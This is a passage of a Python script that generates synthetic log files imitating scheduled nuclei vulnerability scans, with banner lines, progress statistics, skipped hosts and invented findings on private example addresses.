    ("self-signed-ssl", "ssl", "low", "10.20.8.2:8443", None, None),
    ("expired-ssl", "ssl", "low", "10.20.8.3:443", '["2024-04-30 12:00:00"]', None),
    ("corp-debug-endpoint", "http", "medium", "http://10.20.9.14:8080/debug/pprof/", None, "pprof"),
    ("corp-debug-endpoint", "http", "medium", "http://10.20.9.15:8080/debug/vars", None, "expvar"),
    (
        "corp-legacy-auth-header",
        "http",
        "high",
        "http://10.20.9.30:8000/internal/reports",
        '["X-Internal-Token accepted"]',
        "x-internal-token",
    ),
    ("kubelet-metrics", "http", "low", "https://10.20.2.11:10250/metrics", None, None),
    ("docker-api-exposure", "http", "high", "http://10.20.3.40:2375/version", '["24.0.7"]', None),
]


def nuclei(r: random.Random) -> list[Log]:
    """The two CronJobs' pods (see the module docstring)."""
    fs = Files()
    interactsh = ["oast.fun", "oast.live", "oast.site", "oast.me", "oast.pro", "oast.online"]
    staging_down = (at(7, 40), at(9, 20))
    waf_block = (at(8, 0), at(8, 40))
    # the internal job runs every severity: the info results of its HTTP and SSH inputs
    techs = [
        "nginx",
        "envoy",
        "jetty",
        "express",
        "grafana",
        "tomcat",
        "kestrel",
        "apache",
        "openresty",
    ]
    headers = [
        "strict-transport-security",
        "content-security-policy",
        "permissions-policy",
        "x-frame-options",
        "x-content-type-options",
        "referrer-policy",
        "cross-origin-embedder-policy",
        "cross-origin-opener-policy",
        "cross-origin-resource-policy",
        "clear-site-data",
        "x-permitted-cross-domain-policies",
    ]
    info: list[tuple[str, str, str, str, str | None, str | None]] = []
    for _k in range(60):
        u = f"http://10.20.{r.randint(3, 12)}.{r.randint(2, 60)}:{r.choice([80, 8080, 8081, 3000, 9090, 5601])}"
        info.append(("tech-detect", "http", "info", u, None, r.choice(techs)))
        if r.random() < 0.6:
            for h in r.sample(headers, r.randint(1, 5)):
                info.append(("http-missing-security-headers", "http", "info", u, None, h))
        if r.random() < 0.15:
            info.append(("options-method", "http", "info", u, '["GET,HEAD,OPTIONS"]', None))
    for k in range(8):
        h = f"10.20.1.{k + 3}:22"
        info.append(
            (
                "ssh-server-enumeration",
                "javascript",
                "info",
                h,
                '["SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6"]',
                None,
            )
        )
        info.append(
            (
                "ssh-auth-methods",
                "javascript",
                "info",
                h,
                '["[\\"publickey\\",\\"password\\"]"]',
                None,
            )
        )
        info.append(("ssh-password-auth", "javascript", "info", h, None, None))
    for k in range(10):
        h = f"10.20.8.{k + 2}:{r.choice([443, 8443])}"
        info.append(("ssl-dns-names", "ssl", "info", h, f'["svc-{k}.corp.example"]', None))
        info.append(("ssl-issuer", "ssl", "info", h, '["Corp Internal Issuing CA 2"]', None))
        info.append(
            ("tls-version", "ssl", "info", h, r.choice(['["tls12"]', '["tls12","tls13"]']), None)
        )

    def job(name: str, t0: datetime) -> str:
        return f"{name}-{int(t0.timestamp() // 60)}-{''.join(r.choice('bcdfghjklmnpqrstvwxz2456789') for _ in range(5))}.log"

    def one_run(name: str, t: datetime, internal: bool) -> None:
        f = job(name, t)

        def W(t: datetime, label: str, lines: list[str]) -> datetime:
            return fs.add(
                f,
                t,
                label,
                lambda x: [
                    f"{kts(r, x + timedelta(microseconds=i))} {ln}" for i, ln in enumerate(lines)
                ],
                f,
                1,
            )

        t = W(t, NU_BANNER_LABEL, NU_BANNER)
        t = W(
            t + sec(0.0001), "\\t\\tprojectdiscovery.io\\n\\n", ["\t\tprojectdiscovery.io", "", ""]
        )
        t += sec(r.uniform(1.5, 3.5))
        t = W(
            t,
            "[WRN] Found %d template[s] loaded with deprecated paths, update before v3 for continued support.",
            [
                "[WRN] Found 18 template[s] loaded with deprecated paths, update before v3 for continued support."
            ],
        )
        t = W(
            t + sec(0.2),
            "[INF] Current nuclei version: %v %v",
            [f"[INF] Current nuclei version: {NU_VERSION} (latest)"],
        )
        t = W(
            t + sec(0.001),
            "[INF] Current nuclei-templates version: %v %v",
            [f"[INF] Current nuclei-templates version: {NU_TPL_VERSION} (latest)"],
        )
        t = W(
            t + sec(0.001),
            "[WRN] Scan results upload to cloud is disabled.",
            ["[WRN] Scan results upload to cloud is disabled."],
        )
        t = W(
            t + sec(0.001),
            "[INF] New templates added in latest release: %d",
            ["[INF] New templates added in latest release: 58"],
        )
        loaded = 7781 + 64 if internal else 3712
        t = W(
            t + sec(0.001),
            "[INF] Templates loaded for current scan: %d",
            [f"[INF] Templates loaded for current scan: {loaded}"],
        )
        t = W(
            t + sec(0.001),
            "[INF] Executing %d signed templates from %s",
            [
                f"[INF] Executing {7790 if internal else 3719} signed templates from projectdiscovery/nuclei-templates"
            ],
        )
        if internal:
            t = W(
                t + sec(0.001),
                "[WRN] Executing %d unsigned templates. Use with caution.",
                ["[WRN] Executing 64 unsigned templates. Use with caution."],
            )
        ntargets = 120 if internal else 38
        t = W(
            t + sec(0.001),
            "[INF] Targets loaded for current scan: %d",
            [f"[INF] Targets loaded for current scan: {ntargets}"],
        )
        if internal:
            t = W(
                t + sec(0.01),
                "[INF] Running httpx on input host",
                ["[INF] Running httpx on input host"],
            )
            t = W(
                t + sec(r.uniform(8, 20)),
                "[INF] Found %d URL from httpx",
                [f"[INF] Found {r.randint(71, 78)} URL from httpx"],
            )
        clustered = r.randint(1180, 1260)
        t = W(
            t + sec(r.uniform(0.3, 1.2)),
            "[INF] Templates clustered: %d (Reduced %d Requests)",
            [
                f"[INF] Templates clustered: {clustered} (Reduced {clustered * ntargets - r.randint(0, 40) * ntargets} Requests)"
            ],
        )
        t = W(
            t + sec(r.uniform(0.4, 2.0)),
            "[INF] Using Interactsh Server: %s",
            [f"[INF] Using Interactsh Server: {r.choice(interactsh)}"],
        )
        # the scan: stats every 20 s, results as they come
        duration = r.uniform(2700, 3400) if internal else r.uniform(1500, 2300)
        total = (r.randint(260, 300) if internal else r.randint(95, 110)) * 1000 + r.randint(0, 999)
        findings = list(NU_INT_FINDINGS if internal else NU_EXT_FINDINGS)
        r.shuffle(findings)
        findings = findings[: r.randint(len(findings) - 4, len(findings))]
        waf = not internal and in_any(t, [waf_block])
        waf_hosts = r.sample(NU_EXTERNAL, len(NU_EXTERNAL))
        if waf:
            # the CDN's WAF blocks the scanner's address: nothing answers but the origin hosts
            findings = []
        if internal:
            findings += [x for x in info if r.random() < 0.93]
        times = sorted(r.uniform(20, duration - 30) for _ in findings)
        start = t
        matched = 0
        errors = 0
        skipped_at = None
        if not internal and in_any(t, [staging_down]):
            skipped_at = start + sec(r.uniform(120, 400))
        if internal:
            skipped_at = start + sec(r.uniform(300, 900))
        k = 1
        fi = 0
        while True:
            st = start + sec(20 * k)
            if st > start + sec(duration):
                break
            while fi < len(findings) and start + sec(times[fi]) < st:
                tid, proto, sev, target, extra, matcher = findings[fi]
                head = f"[{tid}:{matcher}]" if matcher else f"[{tid}]"
                line = f"{head} [{proto}] [{sev}] {target}" + (f" {extra}" if extra else "")
                label = (
                    ("[%s:%s]" if matcher else "[%s]")
                    + " [%s] [%s] %s"
                    + (" [%s]" if extra else "")
                )
                W(start + sec(times[fi]), label, [line])
                matched += 1
                fi += 1
            if waf and k % 9 == 4 and k < 60:
                host = waf_hosts.pop().removeprefix("https://") + ":443"
                W(
                    st - sec(r.uniform(1, 15)),
                    "[INF] Skipped %s from target list as found unresponsive %d times",
                    [f"[INF] Skipped {host} from target list as found unresponsive 30 times"],
                )
            if skipped_at and st > skipped_at:
                host = (
                    "staging-shop.example.com:443"
                    if not internal
                    else r.choice(["10.20.11.4:8080", "10.20.11.9:9090", "10.20.12.2:3000"])
                )
                W(
                    skipped_at,
                    "[INF] Skipped %s from target list as found unresponsive %d times",
                    [
                        f"[INF] Skipped {host} from target list as found unresponsive {30 if r.random() < 0.8 else r.randint(31, 34)} times"
                    ],
                )
                skipped_at = None
            el = 20 * k
            done = min(total, int(total * el / duration * r.uniform(0.97, 1.0)))
            errors += r.randint(20, 160)
            rps = max(1, done // el)
            W(
                st,
                "[%s] | Templates: %s | Hosts: %s | RPS: %s | Matched: %s | Errors: %s | Requests: %s/%s (%s%%)",
                [
                    f"[{el // 3600}:{el // 60 % 60:02d}:{el % 60:02d}] | Templates: {loaded} | Hosts: {ntargets} | RPS: {rps} | Matched: {matched} | Errors: {errors} | Requests: {done}/{total} ({done * 100 // total}%)"
                ],
            )
            k += 1
        end = start + sec(duration + r.uniform(1, 5))
        if matched == 0:
            W(
                end,
                "[INF] No results found. Better luck next time!",
                ["[INF] No results found. Better luck next time!"],
            )

    for h in range(6, 12):
        one_run("nuclei-external", at(h, 5, r.uniform(1, 8)), False)
    for h in (6, 8, 10):
        one_run("nuclei-internal", at(h, 35, r.uniform(1, 8)), True)
    return fs.logs(T0)


SYSTEMS = {
    "clair": clair,
    "tracee": tracee,
    "kubescape": kubescape,
    "gitleaks": gitleaks,
    "nuclei": nuclei,
}

if __name__ == "__main__":
    raise SystemExit(generate(SYSTEMS, sys.argv[1:]))
